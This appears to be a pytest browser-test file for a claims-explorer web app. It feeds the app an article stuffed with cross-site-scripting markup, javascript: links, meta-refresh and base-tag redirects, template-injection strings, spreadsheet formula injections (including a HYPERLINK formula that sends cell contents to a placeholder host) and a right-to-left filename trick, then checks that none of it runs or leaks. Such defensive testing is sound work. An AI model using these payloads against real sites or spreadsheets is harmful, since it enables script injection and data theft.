"""Articles that would act on who reads them: nothing of theirs runs, turns or is opened."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from claims import ids
from claims.explorer.serve import Server
from claims.load import scan
from tests.examples import article, at
from tests.explorer.conftest import Open, Visit, released
from tests.strategies import article_row, claim_row, framing_row, speaker_row, to_tables

RUN = "window.ran = (window.ran ?? 0) + 1"
MARKUP = (
    f"<script>{RUN}</script>", f'<img src=x onerror="{RUN}">', f"<svg onload='{RUN}'>",
    '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>', f"</title><script>{RUN}</script>",
    f'"><a href="javascript:{RUN}">here</a>', "<style>body { display: none }</style>",
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:1/">', "<base href='http://127.0.0.1:1/'>",
    f"{{{{constructor.constructor('{RUN}')()}}}}", "<!--", "]]>", "&lt;b&gt;",
)  # fmt: skip
FORMULAS = ('=HYPERLINK("http://127.0.0.1:1/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1")
TURNED = "\u202egnp.exe\u202c"
WORD = "x" * 1_000_000
TEXT = "\n\n".join(
    [
        f"Title {MARKUP[0]}",
        *(f"It was {part}, she said, a “🌉 {part}”." for part in MARKUP),
        f"Beware {TURNED} today.",
        f"{WORD} said so.",
    ]
)
HOSTILE = replace(
    article(f"javascript:{RUN}", TEXT, f"Daily {MARKUP[1]}"),
    title=f"Title {MARKUP[0]}", byline=MARKUP[2],
)  # fmt: skip


def hostile() -> dict[str, Any]:
    who = speaker_row(
        f"Eve {MARKUP[1]}",
        aliases=[MARKUP[0], TURNED],
        roles=[{"role": MARKUP[3], "article_id": HOSTILE.article_id}],
    )
    named = {"speaker": who["name"], "speaker_id": who["speaker_id"], "speaker_type": "person"}
    claims = [
        claim_row(HOSTILE, at(TEXT, part), (), at(TEXT, "she said"), cue_lemma=MARKUP[1], **named)
        for part in MARKUP
    ]
    claims += [
        claim_row(HOSTILE, at(TEXT, f"Beware {TURNED} today"), **named),
        claim_row(HOSTILE, at(TEXT, WORD), at(TEXT, "so"), **named),
    ]
    framings = [
        framing_row(
            HOSTILE,
            at(TEXT, part),
            at(TEXT, "It was"),
            claim_id=claims[n]["claim_id"],
            framer=who["name"],
            framer_id=who["speaker_id"],
        )
        for n, part in enumerate(MARKUP)
    ]
    rows = [article_row(HOSTILE)]
    for number, formula in enumerate(FORMULAS):
        one = article(f"{formula} {number}", f"{formula} is what he said.", formula)
        rows.append(article_row(one))
        claims.append(
            claim_row(
                one, at(one.text, formula.strip() or formula), speaker=formula, voice="direct"
            )
        )
    return to_tables(rows, claims, framings, {who["speaker_id"]: who})


@pytest.fixture(scope="module")
def release(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return released(hostile(), tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def opened(release: Path, browser: Any, serve: Callable[[Path], Server]) -> Any:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, reduced_motion="reduce")
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    visit = Visit(context.new_page(), serve(release).url)
    visit.page.add_init_script(
        "addEventListener('securitypolicyviolation', (one) => console.error(`refused ${one.violatedDirective}`))"
    )
    yield visit
    assert visit.wrong == []
    here = visit.url.split("/explorer/")[0]
    assert [url for url in asked if not url.startswith((here, "blob:"))] == []
    context.close()


def addresses(release: Path) -> list[str]:
    claims = scan(release, "claims").collect()
    (speaker,) = scan(release, "speakers").collect()["speaker_id"]
    return [
        "", f"#/article/{HOSTILE.article_id}", *(f"#/claim/{one}" for one in claims["claim_id"][:4]),
        "#/articles", "#/speakers", f"#/speaker/{speaker}", "#/frames", "#/frames?label=other",
        f"#/claims?q={MARKUP[0]}", f"#/claims?speaker={MARKUP[1]}&outlet={MARKUP[0]}", f"#/claim/{MARKUP[0]}",
        f"#/{MARKUP[0]}/{MARKUP[1]}", "#/frames?target=<b>&label=<i>", "#/claims?article=<img src=x onerror=alert(1)>",
    ]  # fmt: skip


def test_nothing_of_an_article_runs_on_any_view(release: Path, opened: Visit) -> None:
    for address in addresses(release):
        page = opened.to(address)
        assert page.evaluate("window.ran ?? null") is None, address
        made = page.locator("main").locator(
            "script, iframe, img, object, embed, base, meta, style, link"
        )
        assert made.count() == 0, address
        for anchor in page.locator("a").evaluate_all("all => all.map((one) => one.protocol)"):
            assert anchor in ("http:", "https:"), address


def test_markup_is_shown_as_it_is_written(release: Path, opened: Visit) -> None:
    page = opened.to(f"#/article/{HOSTILE.article_id}")
    page.locator(".text .tag").evaluate_all("tags => tags.forEach((one) => one.remove())")
    assert page.locator(".text h1").inner_text() == f"Title {MARKUP[0]}"
    shown = page.locator(".text > p").evaluate_all("all => all.map((one) => one.textContent)")
    for part in MARKUP:
        assert f"It was {part}, she said, a “🌉 {part}”." in shown
    assert page.title().startswith(f"Title {MARKUP[0]}")


def test_places_after_characters_of_two_units_are_right(release: Path, opened: Visit) -> None:
    page = opened.to(f"#/article/{HOSTILE.article_id}")
    for row in (
        scan(release, "claims")
        .filter(article_id=HOSTILE.article_id)
        .collect()
        .iter_rows(named=True)
    ):
        marks = page.locator(f".text a[data-claim='{row['claim_id']}']")
        words = "".join(marks.evaluate_all("all => all.map((one) => one.textContent)"))
        assert words in row["claim"].replace("\u202e", "⟦U+202E⟧")


def test_an_address_that_would_run_is_no_link(release: Path, opened: Visit) -> None:
    page = opened.to(f"#/article/{HOSTILE.article_id}")
    assert "javascript:" in page.locator(".text header").inner_text()
    assert page.locator(".text header a[target]").count() == 0


def test_text_cannot_turn_what_is_around_it(release: Path, opened: Visit) -> None:
    page = opened.to(f"#/article/{HOSTILE.article_id}")
    assert "⟦U+202E⟧gnp.exe" in page.locator(".text").inner_text()
    assert "\u202e" not in page.locator("body").inner_text()
    for address in addresses(release):
        assert "\u202e" not in opened.to(address).locator("body").inner_text()


def test_a_word_of_a_megabyte_stays_in_its_place(release: Path, opened: Visit) -> None:
    for address in ("", f"#/article/{HOSTILE.article_id}", "#/frames"):
        page = opened.to(address)
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280
    assert max(map(len, opened.to("").locator(".item .words").all_inner_texts())) < 500


def test_a_spreadsheet_finds_no_formula(release: Path, visit: Open) -> None:
    page = visit(release).to("#/claims?voice=direct")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download as CSV").click()
    raw = Path(download.value.path()).read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == len(FORMULAS) + 1
    for row in rows:
        assert not [cell for cell in row if cell[:1] in tuple("=+-@\t\r\n")]
    speakers = [row[rows[0].index("speaker")] for row in rows[1:]]
    assert sorted(speakers) == sorted(f"'{formula}" for formula in FORMULAS)


def test_ids_of_the_page_are_its_own(release: Path, opened: Visit) -> None:
    """No text of an article becomes an id or a name, which scripts could take for something else."""
    page = opened.to(f"#/article/{HOSTILE.article_id}")
    found = set(
        page.locator("main [id], main [name]").evaluate_all(
            "all => all.map((one) => one.id || one.name)"
        )
    )
    assert found <= {"tip", "claim-words"}
    assert ids.article_id(HOSTILE.source_uri, TEXT) == HOSTILE.article_id
